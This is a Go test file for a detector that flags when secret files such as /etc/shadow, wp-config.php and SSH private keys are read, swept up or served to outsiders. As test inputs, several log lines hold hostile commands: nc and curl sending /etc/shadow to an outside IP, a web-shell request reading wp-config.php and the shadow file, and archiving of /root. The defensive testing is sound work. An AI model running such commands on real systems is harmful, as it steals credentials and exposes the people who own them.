package secrets_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"telltale/detect"
	"telltale/detect/detecttest"
	"telltale/detect/secrets"
)

const lying = `
- secret-seen record.type=shadow file.path=/etc/shadow file.uid=0 file.size=900 file.readers=root message="of 2 with a password" @/etc/shadow
- secret-seen record.type=wordpress file.path=/var/www/html/wp-config.php file.uid=33 file.size=3000 file.readers=root file.readers=www-data @/var/www/html/wp-config.php
- secret-seen record.type=wordpress file.path=/var/www/html/wp-config.php.bak file.uid=33 file.size=3000 file.readers=* @/var/www/html/wp-config.php.bak
- secret-seen record.type=ssh-key file.path=/home/amy/.ssh/id_rsa file.uid=1000 file.size=1800 message="not protected by a passphrase" file.readers=root file.readers=amy @/home/amy/.ssh/id_rsa
- secret-seen record.type=mysql-client file.path=/root/.my.cnf file.uid=0 file.size=40 file.readers=root @/root/.my.cnf
- secret-seen record.type=nonsense file.path=/x file.uid=0
`

func TestWhatLiesThere(t *testing.T) {
	got := detecttest.Of(detecttest.Run(t, secrets.New(), detecttest.Scene(), lying), detect.Secret)
	if len(got) != 5 {
		t.Fatalf("%d secrets", len(got))
	}
	x := got[3]
	if x.Account != "amy" || x.Mechanism != "ssh-key" || x.Detail != "not protected by a passphrase" || !slices.Equal(x.Accounts, []string{"root", "amy"}) || x.Rung != 0 || x.Level != detect.Info {
		t.Errorf("%+v", x)
	}
}

func TestReads(t *testing.T) {
	for _, tc := range []struct{ name, line, paths string }{
		{"shown", `shell-command user.name=bob process.command_line="cat /etc/shadow"`, "/etc/shadow"},
		{"in a folder that nobody knows", `shell-command user.name=bob process.command_line="less wp-config.php"`, "/var/www/html/wp-config.php"},
		{"one's own", `shell-command user.name=amy process.command_line="cat ~/.ssh/id_rsa"`, "/home/amy/.ssh/id_rsa"},
		{"one's own, from home", `shell-command user.name=amy process.command_line="cp .ssh/id_rsa /tmp/x"`, "/home/amy/.ssh/id_rsa"},
		{"another's home is not one's own", `shell-command user.name=bob process.command_line="cat ~/.ssh/id_rsa"`, ""},
		{"by a pattern", `shell-command user.name=bob process.command_line="cat /home/*/.ssh/id_*"`, "/home/amy/.ssh/id_rsa"},
		{"a folder packed", `sudo-command user.name=bob process.command_line="/usr/bin/tar czf /tmp/x.tgz /var/www /root"`, "/var/www/html/wp-config.php /var/www/html/wp-config.php.bak /root/.my.cnf"},
		{"a folder that is listed", `shell-command user.name=bob process.command_line="ls -la /etc/ /root/.ssh"`, ""},
		{"read from", `shell-command user.name=bob process.command_line="nc 203.0.113.6 80 < /etc/shadow; cat < /etc/shadow"`, "/etc/shadow"},
		{"sent", `shell-command user.name=bob process.command_line="curl -F f=@x -T /etc/shadow http://203.0.113.6/"`, "/etc/shadow"},
		{"read there, not here", `shell-command user.name=bob process.command_line="ssh db1 cat /etc/shadow"`, ""},
		{"changed, not read", `shell-command user.name=bob process.command_line="chmod 600 /root/.my.cnf; rm /etc/shadow"`, ""},
		{"in a working directory", `process-started user.name=bob process.command_line="cat wp-config.php" process.working_directory=/var/www/html`, "/var/www/html/wp-config.php"},
		{"asked of a script", `http-request source.ip=203.0.113.6 http.response.status_code=200 url.original="/uploads/x.php?c=cat+../wp-config.php%3Bcat%20/etc/shadow"`, "/var/www/html/wp-config.php /etc/shadow"},
		{"asked in vain", `http-request source.ip=203.0.113.6 http.response.status_code=404 url.original="/uploads/x.php?c=cat+/etc/shadow"`, ""},
		{"a page of that name", `http-request source.ip=203.0.113.6 http.response.status_code=200 url.original="/help?topic=shadow&x=config.php"`, ""},
		{"in another", `process-started user.name=bob process.command_line="cat wp-config.php" process.working_directory=/srv/other`, ""},
	} {
		var paths []string
		for _, x := range detecttest.Of(detecttest.Run(t, secrets.New(), detecttest.Scene(), lying+"03:00:00 "+tc.line), detect.SecretRead) {
			paths = append(paths, x.Views...)
		}
		if got := strings.Join(paths, " "); got != tc.paths {
			t.Errorf("%s: got %q, want %q", tc.name, got, tc.paths)
		}
	}
}

func TestALevelOnlyForSweeps(t *testing.T) {
	for line, want := range map[string]detect.Level{
		"cat /root/.my.cnf": detect.Info, "tar czf /b.tgz /root /home /var/www": detect.Info,
		"cat /etc/shadow /root/.my.cnf /home/amy/.ssh/id_rsa": detect.Medium, "cat /root/.my.cnf /etc/shadow": detect.Info,
	} {
		got := detecttest.Of(detecttest.Run(t, secrets.New(), detecttest.Scene(), lying+`03:00:00 shell-command user.name=bob process.command_line="`+line+`"`), detect.SecretRead)
		if len(got) != 1 || got[0].Level != want {
			t.Errorf("%s: %+v", line, got)
		}
	}
}

func TestGivenAway(t *testing.T) {
	for _, tc := range []struct {
		name, line string
		want       int
	}{
		{"as long as the file", "http-request source.ip=203.0.113.6 http.response.status_code=200 url.original=/wp-config.php.bak http.response.body.bytes=3000", 1},
		{"with its headers", "http-request source.ip=203.0.113.6 http.response.status_code=200 url.original=/wp-config.php.bak?x http.response.body.bytes=3321", 1},
		{"run, not shown", "http-request source.ip=203.0.113.6 http.response.status_code=200 url.original=/wp-config.php http.response.body.bytes=3321", 0},
		{"refused", "http-request source.ip=203.0.113.6 http.response.status_code=403 url.original=/wp-config.php.bak http.response.body.bytes=3000", 0},
		{"another file of that name", "http-request source.ip=203.0.113.6 http.response.status_code=200 url.original=/old/wp-config.php.bak http.response.body.bytes=3000", 0},
		{"from within", "http-request source.ip=10.0.0.6 http.response.status_code=200 url.original=/wp-config.php.bak http.response.body.bytes=3000", 0},
		{"by ftp", "file-downloaded service.name=vsftpd user.name=amy source.ip=203.0.113.6 file.path=/.ssh/id_rsa file.size=1800", 1},
	} {
		got := detecttest.Of(detecttest.Run(t, secrets.New(), detecttest.Scene(), lying+"03:00:00 "+tc.line), detect.DataFetched)
		if len(got) != tc.want || tc.want == 1 && len(got[0].Views) != 1 {
			t.Errorf("%s: %+v", tc.name, got)
		}
	}
}

// TestVeryManyCommands guards against looking each command up in each secret.
func TestVeryManyCommands(t *testing.T) {
	var b strings.Builder
	for i := range 2000 {
		fmt.Fprintf(&b, "- secret-seen record.type=tls-key file.path=/etc/ssl/private/%d.key file.uid=0\n", i)
	}
	for i := range 30_000 {
		fmt.Fprintf(&b, "03:00:00 shell-command user.name=bob process.command_line=\"cat /var/www/html/%d.html\"\n", i)
	}
	events := detecttest.Events(t, b.String())
	f := secrets.New().New(detecttest.Scene())
	began := time.Now()
	for i := range events {
		f.Observe(&events[i])
	}
	if d := time.Since(began); d > 2*time.Second {
		t.Errorf("it took %s", d)
	}
}
